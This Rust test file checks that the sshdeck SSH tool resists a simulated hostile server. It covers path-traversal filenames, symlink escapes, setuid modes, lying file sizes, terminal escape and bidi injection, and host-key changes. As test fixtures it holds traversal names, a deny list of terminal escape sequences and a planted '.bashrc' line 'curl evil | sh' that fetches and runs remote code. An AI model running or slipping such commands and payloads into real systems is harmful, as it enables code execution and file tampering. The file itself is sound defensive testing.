//! A compromised host must never reach past what the user asked for: not
//! the local disk outside the destination, not the user's terminal, not
//! the trust store. Each attack here is served by the hostile host in
//! `support::hostile` (or by real sshd where the attack needs only files)
//! and met through the real binary, as a user would meet it.

use crate::support;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use support::farm::{Farm, FarmOptions};
use support::hostile::{Behaviour, EVIL, Node, Tree};
use support::hostile_cli::{LIMIT, Setup, hostile, keygen, text, walk};
use support::pty::{Pty, output_within};
use support::{sshdeck_bin, sshdeck_farm};

/// What would act on a terminal: the hostile payload's sequences and its
/// raw bidi override (sshdeck's own drawing is allowed its escapes).
fn assert_no_hostile_sequences(what: &str, bytes: &[u8]) {
    let t = text(bytes);
    for bad in [
        "\x1b[2J", "\x1b]52", "\x1b]0;", "\u{202e}", "cHduZWQ=", "pwned",
    ] {
        assert!(
            !t.contains(bad),
            "{what}: {bad:?} reached the terminal:\n{t:?}"
        );
    }
}

#[test]
fn traversal_names_are_refused_and_the_rest_still_copies() {
    let mut tree = Tree::default();
    tree.dir("d", 0o755).file("d/ok.txt", b"fine", 0o644);
    let evil = |data: &[u8]| Node::File {
        data: data.to_vec(),
        claimed: None,
    };
    tree.put_named("d", "../../../x", evil(b"escaped"), 0o644)
        .put_named("d", "a/b", evil(b"slash"), 0o644)
        .put_named("d", "", evil(b"empty"), 0o644)
        .put_named("d", "dup", evil(b"one"), 0o644)
        .put_named("d", "dup", evil(b"two"), 0o644)
        .put_named("d", "sub", Node::Dir(Vec::new()), 0o755)
        .put_named("d/sub", "../../../../y", evil(b"deeper"), 0o644)
        .put_named("d/sub", "fine", evil(b"deep and fine"), 0o644);
    let s = hostile(tree, Behaviour::default());
    // Deep enough that every `..` above lands inside the temporary directory.
    let dest = s.root().join("w/x/y/z/dest");
    let out = s.get(&["-r", "d"], &dest);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    for name in [
        "../../../x",
        "a/b",
        "d/sub/../../../../y",
        "listed twice",
        "empty",
    ] {
        assert!(err.contains(name), "{name:?} not named in:\n{err}");
    }
    assert!(err.contains(&s.label()), "the host is not named:\n{err}");
    let mine = s.host_dir(&dest);
    assert_eq!(std::fs::read(mine.join("d/ok.txt")).unwrap(), b"fine");
    assert_eq!(
        std::fs::read(mine.join("d/sub/fine")).unwrap(),
        b"deep and fine"
    );
    // Nothing anywhere but the good files under the destination.
    let files: Vec<PathBuf> = walk(s.root())
        .into_iter()
        .filter(|p| p.starts_with("w"))
        .collect();
    let expect: Vec<PathBuf> = ["d/ok.txt", "d/sub/fine"]
        .iter()
        .map(|f| Path::new("w/x/y/z/dest").join(s.label()).join(f))
        .collect();
    assert_eq!(files, expect);
}

/// The directory standing for the user's home in the link tests: a real
/// home must never be at risk in a test.
fn fake_home(s: &Setup) -> PathBuf {
    let home = s.root().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
    home
}

#[test]
fn symlinks_from_one_get_are_never_followed_by_the_next() {
    let mut tree = Tree::default();
    let s = hostile(Tree::default(), Behaviour::default());
    let outside = s.root().join("outside");
    std::fs::create_dir(&outside).unwrap();
    let home = fake_home(&s);
    tree.dir("d", 0o755)
        .file("d/ok.txt", b"fine", 0o644)
        .link("d/sub", outside.to_str().unwrap())
        .link("d/home", home.to_str().unwrap())
        .link("d/rel", "ok.txt")
        .link("d/up", "../../..");
    s.host.with(|t, _| *t = tree);
    let dest = s.root().join("dest");

    // By default a link that leads out of the tree is left out, and said so.
    let out = s.get(&["-r", "d"], &dest);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    let mine = s.host_dir(&dest).join("d");
    assert_eq!(
        std::fs::read_link(mine.join("rel")).unwrap(),
        Path::new("ok.txt")
    );
    for gone in ["sub", "home", "up"] {
        assert!(
            mine.join(gone).symlink_metadata().is_err(),
            "{gone} was created"
        );
        assert!(err.contains(&format!("d/{gone}: symlink to")), "{err}");
    }
    assert!(err.contains("resolves outside the copied tree"), "{err}");

    // Asked for, such links are made, as links.
    let out = s.get(&["-r", "--unsafe-links", "d"], &dest);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_link(mine.join("sub")).unwrap(), outside);
    assert_eq!(std::fs::read_link(mine.join("home")).unwrap(), home);

    // The next copy serves directories where the links were: nothing may
    // be written through them, with or without --unsafe-links.
    s.host.with(|t, _| {
        for name in ["sub", "home"] {
            t.remove(&format!("d/{name}"));
            t.dir(&format!("d/{name}"), 0o755);
        }
        t.file("d/sub/evil", b"planted", 0o644);
        t.file("d/home/.bashrc", b"curl evil | sh\n", 0o644);
    });
    for extra in [&["--unsafe-links"][..], &[]] {
        let mut args = vec!["-r"];
        args.extend_from_slice(extra);
        args.push("d");
        let out = s.get(&args, &dest);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{extra:?}: {err}");
        assert!(err.contains("symbolic link"), "{extra:?}: {err}");
        assert!(
            std::fs::read_dir(&outside).unwrap().next().is_none(),
            "wrote outside"
        );
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).unwrap(),
            "# mine\n"
        );
    }
}

fn umask() -> u32 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|l| l.starts_with("Umask:")).unwrap();
    u32::from_str_radix(line[6..].trim(), 8).unwrap()
}

fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
}

/// Modes served by a hostile host and by real sshd arrive the same way.
fn check_modes(tree_root: &Path, preserve: bool) {
    let mask = if preserve { 0 } else { umask() };
    for (p, want) in [
        ("suid", 0o755),
        ("sgid", 0o755),
        ("open", 0o777),
        ("sticky", 0o777),
        ("open/f", 0o666),
    ] {
        let got = mode(&tree_root.join(p));
        assert_eq!(got, want & !mask, "{p}: {got:o} (preserve: {preserve})");
        assert_eq!(got & 0o7000, 0, "{p} arrived setuid, setgid or sticky");
    }
}

#[test]
fn modes_never_arrive_setuid_setgid_or_sticky_nor_wider_than_the_umask() {
    let mut tree = Tree::default();
    tree.dir("d", 0o755)
        .file("d/suid", b"#!/bin/sh\n", 0o4755)
        .file("d/sgid", b"#!/bin/sh\n", 0o2755)
        .dir("d/open", 0o777)
        .dir("d/sticky", 0o1777)
        .file("d/open/f", b"x", 0o666);
    let s = hostile(tree, Behaviour::default());
    for preserve in [false, true] {
        let dest = s.root().join(format!("dest-{preserve}"));
        let args: &[&str] = if preserve {
            &["-r", "--preserve", "d"]
        } else {
            &["-r", "d"]
        };
        let out = s.get(args, &dest);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        check_modes(&s.host_dir(&dest).join("d"), preserve);
    }
}

#[test]
fn modes_from_real_sshd_lose_setuid_setgid_and_sticky_too() {
    let farm = Farm::start(1);
    let d = farm.hosts[0].files().join("d");
    std::fs::create_dir_all(d.join("open")).unwrap();
    std::fs::create_dir_all(d.join("sticky")).unwrap();
    for (p, m) in [
        ("suid", 0o4755),
        ("sgid", 0o2755),
        ("open/f", 0o666),
        ("open", 0o777),
        ("sticky", 0o1777),
    ] {
        if !d.join(p).exists() {
            std::fs::write(d.join(p), "#!/bin/sh\n").unwrap();
        }
        std::fs::set_permissions(d.join(p), std::fs::Permissions::from_mode(m)).unwrap();
        assert_eq!(mode(&d.join(p)), m, "the test could not set {p}");
    }
    for preserve in [false, true] {
        let dest = farm.root.join(format!("dest-{preserve}"));
        let mut c = sshdeck_farm(&farm);
        c.args(["get", "-r", "-H", &farm.host_list()]);
        if preserve {
            c.arg("--preserve");
        }
        c.arg("d").arg(&dest);
        let out = output_within(c, LIMIT);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        check_modes(&dest.join(farm.label(0)).join("d"), preserve);
    }
}

#[test]
fn sizes_that_lie_never_leave_a_file_under_the_real_name() {
    let mut tree = Tree::default();
    tree.lying_file("short", b"ten bytes!", 1 << 20)
        .lying_file("long", &[b'x'; 100], 10)
        .lying_file("empty-but-not", b"surprise", 0);
    let s = hostile(tree, Behaviour::default());
    let dest = s.root().join("dest");
    for name in ["short", "long", "empty-but-not"] {
        for verify in [&[][..], &["--no-verify"]] {
            let mut args = verify.to_vec();
            args.push(name);
            let out = s.get(&args, &dest);
            let err = text(&out.stderr);
            assert_eq!(out.status.code(), Some(1), "{name} {verify:?}: {err}");
            assert!(err.contains("size mismatch"), "{name}: {err}");
            assert!(
                walk(&dest).is_empty(),
                "{name} {verify:?}: left {:?}",
                walk(&dest)
            );
        }
    }
}

#[test]
fn server_text_is_cleaned_in_errors_output_banners_and_logs() {
    let mut tree = Tree::default();
    tree.file("secret", b"x", 0o600).file("pub", b"y", 0o644);
    let s = hostile(
        tree,
        Behaviour {
            banner: Some(format!("{EVIL}Welcome to a hostile host\r\n")),
            open_error: Some(("secret".into(), format!("{EVIL}permission denied"))),
            ..Behaviour::default()
        },
    );
    let log = s.root().join("sshdeck.log");
    // An SFTP error message, an exit-signal name, stderr, and a disconnect.
    let dest = s.root().join("dest");
    let mut runs = vec![s.get(&["secret"], &dest)];
    for command in ["die", "err", "bye"] {
        let mut c = s.batch();
        c.arg("--log")
            .arg(&log)
            .args(["run", "-H", &s.label(), "--", command]);
        runs.push(output_within(c, LIMIT));
    }
    for (i, out) in runs.iter().enumerate() {
        assert_eq!(out.status.code(), Some(1), "run {i}: {}", text(&out.stderr));
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            // Not a terminal: sshdeck itself draws nothing here either.
            assert!(
                !bytes.iter().any(|&b| b == 0x1b || b == 0x07),
                "run {i} {stream}: {:?}",
                text(bytes)
            );
            assert_no_hostile_sequences(&format!("run {i} {stream}"), bytes);
        }
    }
    let err = |i: usize| text(&runs[i].stderr);
    assert!(err(0).contains("permission denied"), "{}", err(0));
    assert!(
        err(1).contains("KILL"),
        "the signal's name is still told: {}",
        err(1)
    );
    assert!(err(2).contains("boom"), "{}", err(2));
    let logged = std::fs::read(&log).unwrap();
    assert!(!logged.contains(&0x1b), "{:?}", text(&logged));
    let logged = text(&logged);
    assert!(
        logged.contains("banner: \\u{202e}Welcome to a hostile host"),
        "the banner is logged, cleaned:\n{logged}"
    );
    assert!(logged.contains("goodbye"), "{logged}");
}

#[test]
fn keyboard_interactive_texts_and_signal_names_reach_the_terminal_clean() {
    let s = hostile(
        Tree::default(),
        Behaviour {
            kbd: Some((
                format!("{EVIL}Hostile login"),
                format!("{EVIL}Type the word\nsecond line{EVIL}"),
                format!("{EVIL}Word: "),
                "sesame".into(),
            )),
            ..Behaviour::default()
        },
    );
    let mut c = s.sshdeck();
    c.args(["run", "-H", &s.label(), "--", "die"]);
    let mut pty = Pty::spawn(c);
    pty.wait_for("Word: ", LIMIT);
    pty.send("sesame\r");
    let code = pty.wait(LIMIT);
    let shown = pty.output();
    assert_eq!(code, 1, "{}", text(&shown));
    assert_no_hostile_sequences("terminal", &shown);
    let t = text(&shown);
    assert!(
        t.contains("Hostile login") && t.contains("Type the word"),
        "{t}"
    );
    assert!(
        t.contains("\\u{202e}"),
        "bidi overrides are shown escaped: {t}"
    );
    assert!(!t.contains("sesame"), "the answer was echoed: {t}");
}

#[test]
fn a_part_file_left_as_a_symlink_is_never_written_through() {
    let mut tree = Tree::default();
    let data: Vec<u8> = (0..300_000u32).map(|i| (i % 251) as u8).collect();
    tree.file("big.bin", &data, 0o644);
    let s = hostile(tree, Behaviour::default());
    let dest = s.root().join("dest");
    let mine = s.host_dir(&dest);
    std::fs::create_dir_all(&mine).unwrap();
    let victim = s.root().join("victim");
    std::fs::write(&victim, b"precious").unwrap();
    std::os::unix::fs::symlink(&victim, mine.join(".big.bin.sshdeck-part")).unwrap();
    let out = s.get(&["big.bin"], &dest);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert_eq!(std::fs::read(&victim).unwrap(), b"precious");
    assert_eq!(std::fs::read(mine.join("big.bin")).unwrap(), data);
    assert!(
        err.contains("it is a symbolic link") && err.contains("started over"),
        "{err}"
    );
    // A hard link to someone else's file is not "our" part either.
    std::fs::remove_file(mine.join("big.bin")).unwrap();
    std::fs::hard_link(&victim, mine.join(".big.bin.sshdeck-part")).unwrap();
    let out = s.get(&["big.bin"], &dest);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(std::fs::read(&victim).unwrap(), b"precious");
    assert_eq!(std::fs::read(mine.join("big.bin")).unwrap(), data);
}

#[test]
fn without_posix_rename_the_destination_survives_a_failed_replace() {
    let mut tree = Tree::default();
    tree.file("keep.txt", b"old", 0o644);
    let s = hostile(
        tree,
        Behaviour {
            posix_rename: false,
            fail_part_rename: true,
            ..Behaviour::default()
        },
    );
    let local = s.root().join("keep.txt");
    std::fs::write(&local, b"new version").unwrap();
    let mut c = s.batch();
    c.args(["put", "-H", &s.label()]).arg(&local).arg(".");
    let out = output_within(c, LIMIT);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert_no_hostile_sequences("stderr", &out.stderr);
    let kept = s.host.with(|t, _| t.data("keep.txt"));
    assert_eq!(
        kept.as_deref(),
        Some(&b"old"[..]),
        "the destination was deleted first"
    );
    // Once renames work again, the same put replaces it.
    s.host.with(|_, b| b.fail_part_rename = false);
    let mut c = s.batch();
    c.args(["put", "-H", &s.label()]).arg(&local).arg(".");
    let out = output_within(c, LIMIT);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let now = s
        .host
        .with(|t, _| (t.data("keep.txt"), t.0.keys().cloned().collect::<Vec<_>>()));
    assert_eq!(now.0.as_deref(), Some(&b"new version"[..]));
    assert_eq!(now.1, ["keep.txt"], "a part or set-aside file was left");
}

#[test]
fn a_host_key_of_another_type_is_treated_as_changed_never_pinned_again() {
    let s = hostile(Tree::default(), Behaviour::default());
    let rsa = s.root().join("old_rsa");
    keygen(&rsa, "rsa");
    let old = std::fs::read_to_string(rsa.with_extension("pub")).unwrap();
    let old: Vec<&str> = old.split_whitespace().take(2).collect();
    let pinned = format!(
        "# pinned long ago\n[127.0.0.1]:{} {}\n",
        s.host.port,
        old.join(" ")
    );
    std::fs::write(&s.kh, &pinned).unwrap();
    for policy in ["accept-new", "ask", "strict"] {
        let mut c = s.batch();
        c.args([
            "--host-key-policy",
            policy,
            "run",
            "-H",
            &s.label(),
            "--",
            "true",
        ]);
        let out = output_within(c, LIMIT);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{policy}: {err}");
        assert!(err.contains("HOST KEY CHANGED"), "{policy}: {err}");
        assert!(
            err.contains(&format!("{}:2", s.kh.display())),
            "{policy}: file and line not named: {err}"
        );
        assert!(err.contains("ssh-rsa"), "{policy}: {err}");
        assert_eq!(std::fs::read_to_string(&s.kh).unwrap(), pinned, "{policy}");
    }
}

#[test]
fn hosts_pinned_with_rsa_or_ecdsa_keys_connect_without_a_question() {
    let farm = Farm::start_with(
        2,
        FarmOptions {
            extra_host_keys: vec!["rsa", "ecdsa"],
            ..FarmOptions::default()
        },
    );
    let text_kh: String = [(0, "rsa"), (1, "ecdsa")]
        .iter()
        .map(|&(i, ty)| {
            format!(
                "[127.0.0.1]:{} {}\n",
                farm.hosts[i].port,
                farm.host_key_pub_of(i, ty)
            )
        })
        .collect();
    std::fs::write(&farm.known_hosts, text_kh).unwrap();
    let mut c = sshdeck_farm(&farm);
    c.args([
        "--host-key-policy",
        "strict",
        "run",
        "-H",
        &farm.host_list(),
        "--",
        "echo ok",
    ]);
    let out = output_within(c, LIMIT);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout).matches("ok").count(), 2);
}

#[test]
fn hosts_behind_one_new_jump_host_ask_once_and_save_one_line() {
    let farm = Farm::start(4);
    let known = |i: usize| {
        format!(
            "[127.0.0.1]:{} {}\n",
            farm.hosts[i].port, farm.hosts[i].host_key_pub
        )
    };
    let behind: Vec<String> = (1..4).map(|i| farm.label(i)).collect();
    // accept-new: one line, however many hosts meet the jump host at once.
    let before: String = (1..4).map(known).collect();
    std::fs::write(&farm.known_hosts, &before).unwrap();
    let mut c = sshdeck_farm(&farm);
    c.args(["--host-key-policy", "accept-new", "-J", &farm.label(0)])
        .args(["run", "-H", &behind.join(","), "--", "true"]);
    let out = output_within(c, LIMIT);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let after = std::fs::read_to_string(&farm.known_hosts).unwrap();
    let added: Vec<&str> = after.lines().skip(3).collect();
    assert_eq!(added.len(), 1, "{after}");
    assert!(added[0].starts_with(&format!("[127.0.0.1]:{} ", farm.hosts[0].port)));

    // ask: one question on the terminal, answered once for every host.
    std::fs::write(&farm.known_hosts, &before).unwrap();
    let mut c = Command::new(sshdeck_bin());
    c.env("HOME", &farm.root)
        .env("XDG_CONFIG_HOME", farm.root.join("xdg"))
        .env_remove("SSH_AUTH_SOCK")
        .args(["-F", "none", "--known-hosts"])
        .arg(&farm.known_hosts)
        .arg("-i")
        .arg(&farm.client_key)
        .args([
            "-J",
            &farm.label(0),
            "run",
            "-H",
            &behind.join(","),
            "--",
            "true",
        ]);
    let mut pty = Pty::spawn(c);
    pty.wait_for("Trust it?", LIMIT);
    pty.send("s\r");
    assert_eq!(pty.wait(LIMIT), 0, "{}", pty.text());
    assert_eq!(
        pty.text().matches("can't be established").count(),
        1,
        "{}",
        pty.text()
    );
    let after = std::fs::read_to_string(&farm.known_hosts).unwrap();
    assert_eq!(after.lines().count(), 4, "{after}");
}

#[test]
fn sshdeck_makes_a_private_ssh_directory_when_it_saves_the_first_key() {
    let farm = Farm::start(1);
    let home = farm.root.join("fresh-home");
    std::fs::create_dir(&home).unwrap();
    let mut c = Command::new(sshdeck_bin());
    c.env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join("xdg"))
        .env_remove("SSH_AUTH_SOCK")
        .args([
            "--batch",
            "-F",
            "none",
            "--host-key-policy",
            "accept-new",
            "-i",
        ])
        .arg(&farm.client_key)
        .args(["run", "-H", &farm.host_list(), "--", "true"]);
    let out = output_within(c, LIMIT);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(mode(&home.join(".ssh")), 0o700);
    assert!(home.join(".ssh/known_hosts").exists());
}

#[test]
fn with_real_sshd_a_link_that_becomes_a_directory_is_not_followed() {
    let farm = Farm::start(1);
    let outside = farm.root.join("outside");
    std::fs::create_dir(&outside).unwrap();
    let d = farm.hosts[0].files().join("d");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(d.join("ok.txt"), "fine").unwrap();
    std::os::unix::fs::symlink(&outside, d.join("sub")).unwrap();
    let dest = farm.root.join("dest");
    let get = |extra: &[&str]| {
        let mut c = sshdeck_farm(&farm);
        c.args(["get", "-r", "-H", &farm.host_list()])
            .args(extra)
            .arg("d")
            .arg(&dest);
        output_within(c, LIMIT)
    };
    let out = get(&[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let mine = dest.join(farm.label(0)).join("d");
    assert!(
        mine.join("sub").symlink_metadata().is_err(),
        "an unsafe link was made"
    );
    assert!(text(&out.stderr).contains("resolves outside the copied tree"));
    let out = get(&["--unsafe-links"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_link(mine.join("sub")).unwrap(), outside);
    // On the host the link becomes a directory with a file in it.
    std::fs::remove_file(d.join("sub")).unwrap();
    std::fs::create_dir(d.join("sub")).unwrap();
    std::fs::write(d.join("sub/evil"), "planted").unwrap();
    let out = get(&["--unsafe-links"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("sub: is a symbolic link here"), "{err}");
    assert!(
        std::fs::read_dir(&outside).unwrap().next().is_none(),
        "wrote outside"
    );
    assert_eq!(
        std::fs::read_to_string(mine.join("ok.txt")).unwrap(),
        "fine"
    );
}

#[test]
fn a_large_put_is_checked_part_by_part_and_a_bad_part_is_refused() {
    let s = hostile(Tree::default(), Behaviour::default());
    let local = s.root().join("big.bin");
    // Over one part (256 MiB), so the file is checked in two.
    let data: Vec<u8> = (0..(260u32 << 20)).map(|i| (i % 251) as u8).collect();
    std::fs::write(&local, &data).unwrap();
    let put = || {
        let mut c = s.batch();
        c.args(["put", "-H", &s.label()]).arg(&local).arg(".");
        output_within(c, LIMIT)
    };
    let out = put();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(s.host.with(|t, _| t.data("big.bin")) == Some(data.clone()));
    // The host now answers wrongly for the parts after the first: the copy
    // is refused, naming the range, and the old file stays.
    s.host.with(|_, b| b.lie_about_later_parts = true);
    std::fs::write(&local, &data[1..]).unwrap();
    let out = put();
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    // The first part is fine; the last one (about 256 MiB in) is not.
    assert!(
        err.contains("SHA-256 mismatch") && err.contains("(bytes 2686"),
        "{err}"
    );
    assert!(!err.contains("(bytes 0-"), "{err}");
    assert!(
        s.host.with(|t, _| t.data("big.bin")) == Some(data),
        "the destination changed"
    );
}
